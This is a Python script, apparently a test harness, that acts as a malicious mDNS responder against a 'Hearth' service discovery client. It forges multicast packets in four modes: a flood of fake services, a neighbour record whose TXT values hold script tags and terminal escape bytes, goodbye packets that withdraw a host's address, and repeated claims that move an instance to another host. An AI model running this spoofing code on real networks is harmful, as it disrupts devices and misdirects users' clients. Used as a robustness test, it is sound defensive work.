"""Somebody on the link who lies by mDNS: `python mdns_attacker.py ADDRESS WHAT …` from its address.

flood COUNT            that many packets of services nobody has, with texts as large as they fit
neighbour NAME         a box with a script in its name and texts, and addresses that are not on-link
goodbye HOST ADDRESS   says goodbye for the host's address
claim NAME HOST COUNT  says so often that the Hearth instance NAME is at another host
"""

import random
import socket
import struct
import sys
import time

GROUP = ("224.0.0.251", 5353)
A, PTR, TXT, SRV = 1, 12, 16, 33
FLUSH = 0x8001


def name(text):
    labels = text.split("\n")  # dots may be part of a label
    return b"".join(bytes([len(x.encode())]) + x.encode() for x in labels) + b"\0"


def record(owner, kind, data, ttl=4500, class_=FLUSH):
    return name(owner) + struct.pack(">HHIH", kind, class_, ttl, len(data)) + data


def packet(*records):
    return struct.pack(">HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def texts(*items):
    return b"".join(bytes([len(item)]) + item for item in items)


def service(instance, host, address, *items, type_="_hearth\n_tcp\nlocal"):
    full = f"{instance}\n{type_}"
    return packet(
        record(type_, PTR, name(full), class_=1),
        record(full, SRV, struct.pack(">HHH", 0, 0, 11434) + name(host)),
        record(full, TXT, texts(*items)),
        *(record(host, A, socket.inet_aton(each)) for each in address),
    )


def main(address, what, *rest):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sender.bind((address, 5353))
    noise = random.Random(1)
    if what == "flood":
        for n in range(int(rest[0])):
            filling = [noise.randbytes(250) for _ in range(4)]
            data = service(f"Fake {n}", f"fake{n}\nlocal", [address], *filling)
            sender.sendto(data, GROUP)
            time.sleep(0.0005)
    elif what == "neighbour":
        items = [b"txtvers=1", b"id=<script>", b"v=\x1b[31m1\x07", b"caps=<b>,chat\n", b"st=\xff"]
        sender.sendto(service(rest[0], "evil\nlocal", [address, "8.8.8.8"], *items), GROUP)
    elif what == "goodbye":
        host = rest[0].replace(".", "\n")
        sender.sendto(packet(record(host, A, socket.inet_aton(rest[1]), ttl=0)), GROUP)
    elif what == "claim":
        for _ in range(int(rest[2])):
            host = rest[1].replace(".", "\n")
            sender.sendto(
                service(rest[0], host, [address], b"txtvers=1", b"id=000000000000"), GROUP
            )
            time.sleep(0.05)


if __name__ == "__main__":
    main(*sys.argv[1:])
